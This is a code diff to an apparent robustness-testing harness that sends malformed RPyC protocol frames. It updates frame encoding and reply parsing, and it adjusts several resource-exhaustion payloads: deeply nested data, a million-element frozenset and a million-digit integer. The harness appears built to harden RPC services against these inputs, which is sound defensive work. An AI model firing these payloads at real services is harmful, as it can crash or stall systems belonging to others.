@@ -9,7 +9,8 @@ from typing import Any
 from attack.registry import FOOLSCAP, PYRO, RPYC, attack
 from attack.target import Cut, Line, Target
 
-_REQUEST, _VALUE, _TUPLE, _LOCAL = 1, 1, 2, 3
+_REQUEST, _REPLY = 1, 2
+_VALUE, _TUPLE, _LOCAL = 1, 2, 3
 _GET_ROOT, _GET_ATTRIBUTE, _CALL = 3, 4, 7
 
 
@@ -20,7 +21,7 @@ def _frame(data: bytes) -> bytes:
 def _request(number: int, handler: int, args: Any) -> bytes:
     from rpyc.core import brine  # noqa: PLC0415 - only where it is attacked
 
-    return _frame(bytes(brine.dump((_REQUEST, number, (handler, (_TUPLE, args))))))
+    return _frame(bytes([_REQUEST]) + bytes(brine.dump((number, (handler, (_TUPLE, args))))))
 
 
 class _Rpyc:
@@ -38,10 +39,9 @@ class _Rpyc:
         size = struct.unpack("!LB", data[:5])[0]
         while len(data) < size + 6:
             data += self.line.read(1)
-        kind, _, (_, value) = brine.load(data[5 : 5 + size])
-        if kind != 2:
+        if data[5] != _REPLY:
             raise Cut
-        return value
+        return brine.load(data[6 : 5 + size])[1][1]
 
     def method(self, name: str) -> Any:
         args = ((_LOCAL, self.root), (_VALUE, name))
@@ -111,20 +111,20 @@ def endless_string(t: Target) -> None:
 
 @attack(RPYC)
 def deep_nesting(t: Target) -> None:
-    _flood(t.connect(), _frame(b"\x10" * 10_000_000))
+    _flood(t.connect(), _frame(b"\x01" + b"\x10" * 10_000_000))
 
 
 @attack(RPYC)
 def wide_nesting(t: Target) -> None:
     # A frozenset of an empty tuple, one million times.
     wide = b"\x15" + struct.pack("!L", 1_000_000) + b"\x1a\x02" * 1_000_000
-    _flood(t.connect(), _frame(wide))
+    _flood(t.connect(), _frame(b"\x01" + wide))
 
 
 @attack(RPYC)
 def huge_integers(t: Target) -> None:
     digits = b"9" * 1_000_000
-    _flood(t.connect(), _frame(b"\x17" + struct.pack("!L", len(digits)) + digits))
+    _flood(t.connect(), _frame(b"\x01\x17" + struct.pack("!L", len(digits)) + digits))
 
 
 @attack(RPYC, PYRO, FOOLSCAP)
